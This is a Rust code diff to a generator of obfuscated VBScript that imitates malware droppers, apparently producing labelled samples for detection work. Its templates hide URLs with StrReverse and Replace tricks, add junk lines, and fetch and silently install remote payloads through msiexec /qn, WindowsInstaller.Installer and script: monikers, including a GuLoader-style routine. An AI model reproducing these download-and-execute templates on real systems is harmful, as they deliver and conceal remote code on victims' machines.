@@ -36,7 +36,11 @@ pub(super) fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
         }
         1 => format!("StrReverse(\"{}\")", reversed(text)),
         2 => {
-            let mark = dice.mark(text);
+            let mark = if dice.chance(25) {
+                dice.pick(&["▓", "ꗄ", "☀☂", "ЖЩ"]).to_owned()
+            } else {
+                dice.mark(text)
+            };
             format!("Replace(\"{}\", \"{mark}\", \"\")", dice.littered(text, &mark))
         }
         3 => {
@@ -281,7 +285,7 @@ fn wrapped(dice: &mut Dice, script: &str) -> String {
 
 fn junk(dice: &mut Dice) -> String {
     let mut out = String::new();
-    for _ in 0..1 + dice.below(5) {
+    for _ in 0..super::much(dice) {
         let (one, two) = (camel(dice), camel(dice));
         out.push_str(&match dice.below(6) {
             0 => format!("'{} {} {}\n", letters(dice, 9), letters(dice, 5), one),
@@ -335,7 +339,7 @@ fn plain(dice: &mut Dice, truth: &mut Truth) -> String {
 }
 
 fn download(dice: &mut Dice, truth: &mut Truth) -> String {
-    let url = truth.url(dice, &[".exe", "", ".dat", ".jpg"]);
+    let url = truth.url(dice, &[".exe", "", ".dat", ".jpg", ".php?id=31"]);
     let (before, word) = hidden(dice, &url);
     let kind = dice.pick(&[
         "MSXML2.XMLHTTP",
@@ -486,18 +490,21 @@ fn guloader(dice: &mut Dice, truth: &mut Truth) -> String {
 }
 
 fn installer(dice: &mut Dice, truth: &mut Truth) -> String {
-    let url = truth.url(dice, &[".msi", ".sct"]);
+    let scriptlet = dice.chance(33);
+    let url = truth.url(dice, if scriptlet { &[".sct", ".xml"] } else { &[".msi", ""] });
     let (before, word) = hidden(dice, &url);
     let own = name(dice);
-    match dice.below(3) {
-        0 => format!(
-            "{before}Set {own} = CreateObject(\"WindowsInstaller.Installer\")\n{own}.UILevel = 2\n{own}.InstallProduct {word}\n"
-        ),
-        1 => format!("{before}Set {own} = GetObject(\"script:\" & {word})\n"),
-        _ => format!(
-            "{before}Set {own} = CreateObject(\"WScript.Shell\")\n{own}.Run \"msiexec /qn /i \" & {word}, 0, False\n"
-        ),
+    if scriptlet {
+        return format!("{before}Set {own} = GetObject(\"script:\" & {word})\n");
     }
+    if dice.chance(50) {
+        return format!(
+            "{before}Set {own} = CreateObject(\"WindowsInstaller.Installer\")\n{own}.UILevel = 2\n{own}.InstallProduct {word}\n"
+        );
+    }
+    format!(
+        "{before}Set {own} = CreateObject(\"WScript.Shell\")\n{own}.Run \"msiexec /qn /i \" & {word}, 0, False\n"
+    )
 }
 
 /// A file with another script, which is then run.
